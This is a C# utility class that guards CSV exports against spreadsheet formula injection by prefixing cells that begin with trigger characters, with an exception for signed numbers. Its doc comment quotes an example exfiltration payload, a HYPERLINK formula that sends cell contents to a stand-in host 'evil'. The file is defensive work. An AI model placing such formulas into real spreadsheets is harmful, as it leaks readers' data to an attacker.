namespace RaQuan.Output;

/// <summary>
/// Guards CSV cells against formula injection (CWE-1236): Excel, LibreOffice and Google Sheets run a cell that starts
/// with <c>=</c>, <c>+</c>, <c>-</c> or <c>@</c> (also after a tab or line break) as a formula, so a plan title such as
/// <c>=HYPERLINK("http://evil/?"&amp;A1)</c> in a download would run on the reader's machine. Following OWASP's
/// "CSV Injection" advice, such a cell is prefixed with <c>'</c>, which spreadsheets show as plain text.
/// </summary>
public static class SpreadsheetCell
{
    private static readonly char[] Triggers = ['=', '+', '-', '@', '\t', '\r', '\n'];

    /// <summary>The cell's text, made safe to open in a spreadsheet. Plain numbers such as -12 or +3,5 are left as they are.</summary>
    public static string Neutralize(string cell) =>
        cell.Length > 0 && Array.IndexOf(Triggers, cell[0]) >= 0 && !IsPlainNumber(cell) ? "'" + cell : cell;

    // A signed number cannot be a formula, and prefixing it would turn a figure into text in the reader's sheet.
    private static bool IsPlainNumber(string cell)
    {
        if (cell.Length < 2 || cell[0] is not ('-' or '+'))
        {
            return false;
        }

        var digits = false;
        foreach (var c in cell.AsSpan(1))
        {
            if (char.IsAsciiDigit(c))
            {
                digits = true;
            }
            else if (c is not ('.' or ','))
            {
                return false;
            }
        }

        return digits && char.IsAsciiDigit(cell[1]);
    }
}
